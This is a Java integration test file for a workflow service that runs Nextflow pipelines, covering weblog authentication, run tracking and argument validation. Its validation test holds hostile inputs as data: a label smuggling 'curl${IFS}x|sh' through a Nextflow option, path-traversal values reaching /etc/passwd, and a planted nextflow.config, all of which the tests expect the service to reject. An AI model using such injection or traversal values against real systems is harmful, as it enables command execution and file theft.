package org.sciport.workflow;

import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;

import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.Test;
import org.sciport.commons.event.Topics;
import org.sciport.testsupport.TestInfrastructure;
import org.sciport.testsupport.TestTokens;
import org.sciport.testsupport.TestTokens.User;
import org.sciport.testsupport.TopicReader;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webtestclient.autoconfigure.AutoConfigureWebTestClient;
import org.springframework.context.annotation.Import;
import org.springframework.core.ParameterizedTypeReference;
import org.springframework.http.MediaType;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.reactive.server.WebTestClient;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Running seed 004's projects on real PostgreSQL and Kafka, against a stand-in {@code nextflow}
 * executable (a shell script: the real Nextflow cannot be installed here) that takes the command
 * line Sciport launches, posts a recorded weblog sequence in Nextflow's own format with curl to
 * the URL and the Basic credentials it was given, writes a result into the project and exits as
 * the recorded run did. The weblog is also replayed by hand: only the run's secret opens it, and
 * its counts stand however often a post is repeated.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
		properties = { "spring.config.name=workflow-service",
				"sciport.workflow.nextflow.pipelines.two-tasks.directory=/opt/pipelines/two-tasks",
				"sciport.workflow.nextflow.pipelines.two-tasks.parameters.mode=success",
				"sciport.workflow.nextflow.pipelines.two-tasks.arguments.reads.type=file-glob",
				"sciport.workflow.nextflow.pipelines.two-tasks.arguments.cutoff.type=number",
				"sciport.workflow.nextflow.pipelines.two-tasks.arguments.reference.type=path",
				"sciport.workflow.nextflow.pipelines.two-tasks.arguments.label.type=text",
				"sciport.workflow.nextflow.pipelines.failing.parameters.mode=failure",
				"sciport.workflow.nextflow.pipelines.waiting.parameters.mode=wait",
				"sciport.workflow.nextflow.pipelines.waiting.arguments.flag.type=path" })
@AutoConfigureWebTestClient
@Import(TestTokens.class)
class NextflowRunsIntegrationTests {

	private static final ParameterizedTypeReference<Map<String, Object>> MAP = new ParameterizedTypeReference<>() {
	};

	private static Path projects;

	private static Path runs;

	private static Path fixtures;

	@DynamicPropertySource
	static void infrastructure(DynamicPropertyRegistry registry) throws IOException, URISyntaxException {
		TestInfrastructure.register(registry, "workflow_nextflow_runs");
		projects = Files.createTempDirectory("sciport-projects-");
		runs = Files.createTempDirectory("sciport-runs-");
		Path blobs = Files.createTempDirectory("sciport-blobs-");
		fixtures = Path.of(NextflowRunsIntegrationTests.class.getResource("/nextflow/weblog").toURI());
		Path bin = Files.createTempDirectory("sciport-nextflow-");
		Path nextflow = Files.copy(Path.of(NextflowRunsIntegrationTests.class.getResource("/nextflow/stand-in-nextflow").toURI()),
				bin.resolve("nextflow"));
		Files.setPosixFilePermissions(nextflow, PosixFilePermissions.fromString("rwx------"));
		registry.add("sciport.workflow.nextflow.projects-directory", projects::toString);
		registry.add("sciport.workflow.runs.work-directory", runs::toString);
		registry.add("sciport.workflow.storage-directory", blobs::toString);
		registry.add("sciport.workflow.nextflow.command", nextflow::toString);
		for (String pipeline : List.of("two-tasks", "failing", "waiting")) {
			registry.add("sciport.workflow.nextflow.pipelines." + pipeline + ".parameters.fixtures", fixtures::toString);
		}
	}

	@Autowired
	WebTestClient client;

	private ProjectCalls calls;

	@org.junit.jupiter.api.BeforeEach
	void calls() {
		this.calls = new ProjectCalls(this.client);
	}

	@Autowired
	org.springframework.r2dbc.core.DatabaseClient database;

	private final User owner = TestTokens.user();

	@Test
	@SuppressWarnings("unchecked")
	void aScheduledProjectRunsNextflowFollowsItsWeblogAndKeepsWhatItWrote() {
		int id = projectOf("RNA");
		upload(id, "raw", "reads_1.fq", "@r1\nACGT\n+\nIIII\n");
		upload(id, "ref", "genome.fa", ">chr1\nACGT\n");
		// Nextflow loads a nextflow.config from where it starts: a project's is never there.
		upload(id, "", "nextflow.config", "process.beforeScript = 'echo owned'\n");
		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "two-tasks", "workflow_arguments",
				Map.of("reads", Map.of("type", "file-glob", "value", "/raw/*.fq"), "cutoff", Map.of("value", "0.05"),
						"reference", "ref/genome.fa", "label", "RNA run 7", "ignored", "--not-passed")))
			.expectStatus().isOk();

		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isOk().expectBody()
			.json("{\"is_scheduled\": true}");
		Map<String, Object> run = awaitEnded(id);
		assertThat(run).containsEntry("status", "succeeded").containsEntry("exit_code", 0)
			.containsEntry("submitted_processes", 2).containsEntry("completed_processes", 2);
		assertThat((Map<String, Object>) run.get("nextflow")).containsEntry("run_name", "tender_volta")
			.containsEntry("run_id", "6f0c3a2e-1b7d-4c2a-9d1e-2a7f5b8c9e01").containsEntry("success", true)
			.containsEntry("exit_status", 0);
		// What it published is the project's now (a link into its work directory as the file it
		// leads to, a link leading elsewhere left behind) and the run's outputs.
		assertThat((List<Map<String, Object>>) run.get("outputs")).extracting((output) -> output.get("filename"))
			.containsExactly("results/qc.html", "results/summary.txt");

		// The run called what finished does: no longer scheduled, counters reset.
		get(this.owner, "/api/projects/" + id).expectStatus().isOk().expectBody().jsonPath("$.project.is_scheduled")
			.isEqualTo(false).jsonPath("$.project.submitted_processes").isEqualTo(0)
			.jsonPath("$.project.completed_processes").isEqualTo(0);
		Map<String, Object> detail = (Map<String, Object>) get(this.owner, "/api/projects/" + id + "/runs/" + run.get("id"))
			.expectStatus().isOk().expectBody(MAP).returnResult().getResponseBody().get("run");
		List<Map<String, Object>> tasks = (List<Map<String, Object>>) detail.get("tasks");
		assertThat(tasks).extracting((task) -> task.get("name") + " " + task.get("status") + " " + task.get("exit"))
			.containsExactly("qc (1) COMPLETED 0", "align (1) COMPLETED 0");
		assertThat(tasks.get(1)).containsEntry("process", "align").containsEntry("hash", "a8/9b0c1d")
			.containsEntry("duration_ms", 7800).containsEntry("attempt", 1);

		// What Nextflow was given: absolute paths inside the project, a work directory outside it,
		// no argument the pipeline does not declare; its output is the run's log.
		List<String> log = logMessages(id, "");
		Path root = projects.resolve(Integer.toString(id)).toAbsolutePath();
		assertThat(log).contains("argument: run", "argument: /opt/pipelines/two-tasks/main.nf", "argument: --reads",
				"argument: " + root + "/raw/*.fq", "argument: --cutoff", "argument: 0.05", "argument: --reference",
				"argument: " + root + "/ref/genome.fa", "argument: -work-dir",
				"argument: " + runs.toAbsolutePath().resolve(run.get("id") + "/work"), "argument: --label",
				"argument: RNA run 7", "weblog answered 200",
				"Not published: results/hostname leads outside the run");
		assertThat(log).noneMatch((line) -> line.contains("--not-passed") || line.contains("--ignored")
				|| line.contains("basicToken") || line.contains("found a nextflow.config"));
		assertThat(logMessages(id, "tail=1")).hasSize(1);
		get(this.owner, "/api/projects/" + id + "/files?dir=results").expectStatus().isOk().expectBody()
			.json("{\"folders\": [], \"files\": [\"qc.html\", \"summary.txt\"]}");
		assertThat(root.resolve("results/qc.html")).isRegularFile().hasContent("qc report");
		List<String> followed = this.client.get().uri("/api/projects/" + id + "/logs?follow=true")
			.header("x-access-token", this.owner.token()).accept(MediaType.APPLICATION_NDJSON).exchange()
			.expectStatus().isOk().returnResult(MAP).getResponseBody().map((line) -> (String) line.get("message"))
			.collectList().block(Duration.ofSeconds(30));
		assertThat(followed).containsExactlyElementsOf(log);

		try (TopicReader reader = new TopicReader(TestInfrastructure.kafkaBootstrap(), Topics.WORKFLOW)) {
			List<ConsumerRecord<String, String>> events = reader.awaitRecords(
					(record) -> run.get("id").equals(record.key()), 2, Duration.ofSeconds(30));
			assertThat(events.get(1).value()).contains("\"type\":\"sciport.workflow.run.completed\"")
				.contains("\"project_id\":" + id).contains("\"filename\":\"results/summary.txt\"");
		}
		get(TestTokens.user(), "/api/projects/" + id + "/runs").expectStatus().isNotFound();
	}

	@Test
	@SuppressWarnings("unchecked")
	void aFailingRunIsRecordedWithWhatNextflowReported() {
		int id = projectOf("Failing");
		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "failing")).expectStatus().isOk();
		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isOk();
		Map<String, Object> run = awaitEnded(id);
		assertThat(run).containsEntry("status", "failed").containsEntry("exit_code", 1)
			.containsEntry("submitted_processes", 1).containsEntry("completed_processes", 1);
		assertThat((String) run.get("error_message")).contains("nextflow exited with code 1")
			.contains("Process `align (1)` terminated with an error exit status (1)");
		assertThat((Map<String, Object>) run.get("nextflow")).containsEntry("success", false).containsEntry("exit_status", 1);
		assertThat((String) ((Map<String, Object>) run.get("nextflow")).get("error_report")).contains("Command exit status");
		Map<String, Object> detail = (Map<String, Object>) get(this.owner, "/api/projects/" + id + "/runs/" + run.get("id"))
			.expectStatus().isOk().expectBody(MAP).returnResult().getResponseBody().get("run");
		assertThat((List<Map<String, Object>>) detail.get("tasks")).singleElement()
			.satisfies((task) -> assertThat(task).containsEntry("status", "FAILED").containsEntry("exit", 1)
				.containsEntry("error_action", "TERMINATE"));
		assertThat(logMessages(id, "")).anyMatch((line) -> line.contains("ERROR ~ Error executing process"));
		get(this.owner, "/api/projects/" + id).expectStatus().isOk().expectBody().jsonPath("$.project.is_scheduled")
			.isEqualTo(false);
		try (TopicReader reader = new TopicReader(TestInfrastructure.kafkaBootstrap(), Topics.WORKFLOW)) {
			List<ConsumerRecord<String, String>> events = reader.awaitRecords(
					(record) -> run.get("id").equals(record.key()), 2, Duration.ofSeconds(30));
			// The user the run acts for is named, so their webhooks receive it.
			assertThat(events.get(1).value()).contains("\"type\":\"sciport.workflow.run.failed\"")
				.contains("terminated with an error exit status").contains("\"requested_by\":\"" + this.owner.id() + "\"");
		}
	}

	@Test
	@SuppressWarnings("unchecked")
	void theWeblogTakesOnlyTheRunsSecretAndCountsEachProcessOnce() throws IOException {
		int id = projectOf("Replayed");
		int other = projectOf("Other");
		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "waiting", "workflow_arguments", Map.of("flag", "release"))).expectStatus().isOk();
		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isOk();
		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isEqualTo(422).expectBody()
			.jsonPath("$.errors.general[0]").isEqualTo("the project is scheduled already");
		String secret = secretOf(id);
		String weblog = "/api/projects/" + id + "/nextflow-log";
		String started = lines("retry").get(0);

		// Nothing but the run's own secret opens it, and nothing about it is a 500.
		this.client.post().uri(weblog).contentType(MediaType.APPLICATION_JSON).bodyValue(started).exchange()
			.expectStatus().isUnauthorized();
		for (String authorization : List.of(basic(":"), basic("nextflow:"), "Basic", "Basic !!!not-base64",
				"Bearer junk", "Bearer " + this.owner.token(), basic("nextflow:wrong-secret"))) {
			this.client.post().uri(weblog).header("Authorization", authorization).contentType(MediaType.APPLICATION_JSON)
				.bodyValue(started).exchange().expectStatus().isUnauthorized();
		}
		this.client.post().uri(weblog).header("x-access-token", this.owner.token()).contentType(MediaType.APPLICATION_JSON)
			.bodyValue(started).exchange().expectStatus().isUnauthorized();
		weblog(other, secret, started).expectStatus().isUnauthorized();

		// A retried task, every post delivered twice (as a proxy may): each process counted once.
		for (String post : lines("retry")) {
			weblog(id, secret, post).expectStatus().isOk().expectBody(String.class).isEqualTo(null);
			this.client.post().uri("/api/projects/" + id + "/workflow-log").header("Authorization", basic("nextflow:" + secret))
				.contentType(MediaType.APPLICATION_JSON).bodyValue(post).exchange().expectStatus().isOk();
		}
		get(this.owner, "/api/projects/" + id).expectStatus().isOk().expectBody()
			.jsonPath("$.project.submitted_processes").isEqualTo(2).jsonPath("$.project.completed_processes").isEqualTo(2)
			.jsonPath("$.project.is_scheduled").isEqualTo(true);
		// A late trace never takes a task back; a completion whose submission was lost counts as both.
		weblog(id, secret, lines("retry").get(2)).expectStatus().isOk();
		weblog(id, secret, lines("success").get(5).replace("\"task_id\":1", "\"task_id\":3")).expectStatus().isOk();
		// Bytes Nextflow's writer mangled are taken as they come.
		byte[] mangled = lines("success").get(1).replace("\"task_id\":1", "\"task_id\":4")
			.replace("qc (1)", "qc (M\u00fcller)")
			.getBytes(StandardCharsets.ISO_8859_1);
		this.client.post().uri(weblog).header("Authorization", basic("nextflow:" + secret))
			.contentType(MediaType.APPLICATION_JSON).bodyValue(mangled).exchange().expectStatus().isOk();
		weblog(id, secret, "not json").expectStatus().isEqualTo(422).expectBody().jsonPath("$.errors['request body'][0]")
			.exists();
		weblog(id, secret, "{\"runName\": \"x\"}").expectStatus().isEqualTo(422);

		List<Map<String, Object>> listed = (List<Map<String, Object>>) get(this.owner, "/api/projects/" + id + "/runs")
			.expectStatus().isOk().expectBody(MAP).returnResult().getResponseBody().get("runs");
		Map<String, Object> detail = (Map<String, Object>) get(this.owner,
				"/api/projects/" + id + "/runs/" + listed.get(0).get("id"))
			.expectStatus().isOk().expectBody(MAP).returnResult().getResponseBody().get("run");
		assertThat(detail).containsEntry("status", "running").containsEntry("submitted_processes", 4)
			.containsEntry("completed_processes", 3);
		assertThat((List<Map<String, Object>>) detail.get("tasks"))
			.extracting((task) -> task.get("task_id") + " " + task.get("status") + " " + task.get("exit") + " "
					+ task.get("attempt") + " " + task.get("error_action"))
			.containsExactly("1 FAILED 137 1 RETRY", "2 COMPLETED 0 2 null", "3 COMPLETED 0 1 null", "4 SUBMITTED null 1 null");

		// Released, the stand-in ends well; the run frees the project.
		Files.writeString(projects.resolve(id + "/release"), "go");
		assertThat(awaitEnded(id)).containsEntry("status", "succeeded");
		get(this.owner, "/api/projects/" + id).expectStatus().isOk().expectBody()
			.jsonPath("$.project.submitted_processes").isEqualTo(0).jsonPath("$.project.is_scheduled").isEqualTo(false);
		// The secret ended with the run.
		weblog(id, secret, started).expectStatus().isUnauthorized();
		assertThat(runs.resolve(listed.get(0).get("id") + "/sciport-weblog.config")).doesNotExist();
	}

	@Test
	void finishedIsForAdministratorsAndStopsARunUnderWay() {
		int id = projectOf("Stopped");
		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "waiting", "workflow_arguments", Map.of("flag", "release"))).expectStatus().isOk();
		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isOk();
		secretOf(id);
		post(this.owner, "/api/projects/" + id + "/finished", Map.of()).expectStatus().isForbidden();
		post(TestTokens.admin(), "/api/projects/" + id + "/finished", Map.of()).expectStatus().isOk().expectBody(String.class)
			.isEqualTo(null);
		get(this.owner, "/api/projects/" + id).expectStatus().isOk().expectBody().jsonPath("$.project.is_scheduled")
			.isEqualTo(false);
		assertThat(awaitEnded(id)).containsEntry("status", "cancelled");
	}

	@Test
	void deletingAScheduledProjectCancelsItsRun() {
		int id = projectOf("Deleted");
		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "waiting", "workflow_arguments", Map.of("flag", "release"))).expectStatus().isOk();
		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isOk();
		secretOf(id);
		post(this.owner, "/api/projects/" + id + "/delete", Map.of()).expectStatus().isOk();
		await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(200))
			.until(() -> this.database.sql("SELECT status FROM workflow_run WHERE project_id = :id").bind("id", id)
				.map((row) -> row.get("status", String.class)).one().block(), "cancelled"::equals);
	}

	@Test
	void scheduleChecksEveryArgumentAgainstThePipelinesDefinition() throws IOException {
		int id = projectOf("Checked");
		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isEqualTo(422).expectBody()
			.jsonPath("$.errors.nextflow_project[0]").exists();
		post(this.owner, "/api/projects/" + id + "/update", Map.of("nextflow_project", "two-tasks")).expectStatus().isOk();
		post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isEqualTo(422).expectBody()
			.jsonPath("$.errors.reads[0]").isEqualTo("cannot be empty").jsonPath("$.errors.cutoff[0]")
			.isEqualTo("cannot be empty").jsonPath("$.errors.reference[0]").isEqualTo("cannot be empty")
			.jsonPath("$.errors.label[0]").isEqualTo("cannot be empty");
		Path root = projects.resolve(Integer.toString(id));
		Files.createDirectories(root.resolve("raw"));
		Files.createSymbolicLink(root.resolve("raw/etc"), Path.of("/etc"));
		for (Map<String, Object> arguments : List.of(
				Map.<String, Object>of("reads", "../../etc/*", "cutoff", "a lot", "reference", "../../etc/passwd", "label",
						"-process.beforeScript=curl${IFS}x|sh"),
				Map.<String, Object>of("reads", "....//....//etc/*", "cutoff", List.of(1), "reference", "raw/etc/passwd",
						"label", "two\nlines"),
				Map.<String, Object>of("reads", "raw/*/x.fq", "cutoff", "1e", "reference", "raw\\..\\..\\etc", "label",
						"-c"))) {
			post(this.owner, "/api/projects/" + id + "/update", Map.of("workflow_arguments", arguments)).expectStatus().isOk();
			post(this.owner, "/api/projects/" + id + "/schedule", Map.of()).expectStatus().isEqualTo(422).expectBody()
				.jsonPath("$.errors.reads[0]").exists().jsonPath("$.errors.cutoff[0]").isEqualTo("must be a number")
				.jsonPath("$.errors.reference[0]").exists().jsonPath("$.errors.label[0]").exists();
		}
		get(this.owner, "/api/projects/" + id).expectStatus().isOk().expectBody().jsonPath("$.project.is_scheduled")
			.isEqualTo(false);
		get(this.owner, "/api/projects/" + id + "/runs").expectStatus().isOk().expectBody().json("{\"runs\": []}");
	}

	/** The latest run of the project once it has ended. */
	@SuppressWarnings("unchecked")
	private Map<String, Object> awaitEnded(int id) {
		Map<String, Object>[] found = new Map[1];
		await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(200)).until(() -> {
			List<Map<String, Object>> listed = (List<Map<String, Object>>) get(this.owner, "/api/projects/" + id + "/runs")
				.expectStatus().isOk().expectBody(MAP).returnResult().getResponseBody().get("runs");
			found[0] = listed.isEmpty() ? null : listed.get(0);
			return found[0] != null && !List.of("pending", "running").contains(found[0].get("status"));
		});
		return found[0];
	}

	/** The weblog secret of the project's latest run, from the configuration Sciport wrote for its Nextflow. */
	@SuppressWarnings("unchecked")
	private String secretOf(int id) {
		String[] secret = new String[1];
		await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(100)).until(() -> {
			List<Map<String, Object>> listed = (List<Map<String, Object>>) get(this.owner, "/api/projects/" + id + "/runs")
				.expectStatus().isOk().expectBody(MAP).returnResult().getResponseBody().get("runs");
			if (listed.isEmpty() || !"running".equals(listed.get(0).get("status"))) {
				return false;
			}
			Path config = runs.resolve(listed.get(0).get("id") + "/sciport-weblog.config");
			if (!Files.exists(config)) {
				return false;
			}
			assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(config))).isEqualTo("rw-------");
			// Written whole, and its hash recorded (after the file), before the secret is taken.
			java.util.regex.Matcher token = java.util.regex.Pattern.compile("basicToken = 'nextflow:([^']+)'")
				.matcher(Files.readString(config));
			Boolean recorded = this.database
				.sql("SELECT secret_sha256 IS NOT NULL AS recorded FROM nextflow_run WHERE run_id = :run")
				.bind("run", java.util.UUID.fromString((String) listed.get(0).get("id")))
				.map((row) -> row.get("recorded", Boolean.class))
				.one()
				.block(Duration.ofSeconds(10));
			if (!token.find() || !Boolean.TRUE.equals(recorded)) {
				return false;
			}
			secret[0] = token.group(1);
			return true;
		});
		return secret[0];
	}

	private WebTestClient.ResponseSpec weblog(int id, String secret, String post) {
		return this.client.post().uri("/api/projects/" + id + "/nextflow-log").header("Authorization", basic("nextflow:" + secret))
			.contentType(MediaType.APPLICATION_JSON).bodyValue(post).exchange();
	}

	private static String basic(String credentials) {
		return "Basic " + Base64.getEncoder().encodeToString(credentials.getBytes(StandardCharsets.UTF_8));
	}

	private static List<String> lines(String sequence) {
		try {
			return Files.readAllLines(fixtures.resolve(sequence + ".ndjson")).stream().filter((line) -> !line.isBlank()).toList();
		}
		catch (IOException ex) {
			throw new IllegalStateException(ex);
		}
	}

	@SuppressWarnings("unchecked")
	private List<String> logMessages(int id, String query) {
		List<Map<String, Object>> lines = (List<Map<String, Object>>) get(this.owner, "/api/projects/" + id + "/logs?" + query)
			.expectStatus().isOk().expectBody(MAP).returnResult().getResponseBody().get("logs");
		List<String> messages = new ArrayList<>();
		lines.forEach((line) -> messages.add((String) line.get("message")));
		return messages;
	}

	private int projectOf(String name) {
		return this.calls.create(this.owner, name);
	}

	private void upload(int id, String directory, String filename, String content) {
		this.calls.upload(this.owner, id, directory, filename, content).expectStatus().isOk();
	}

	private WebTestClient.ResponseSpec get(User user, String path) {
		return this.calls.get(user, path);
	}

	private WebTestClient.ResponseSpec post(User user, String path, Map<String, Object> body) {
		return this.calls.post(user, path, body);
	}

}
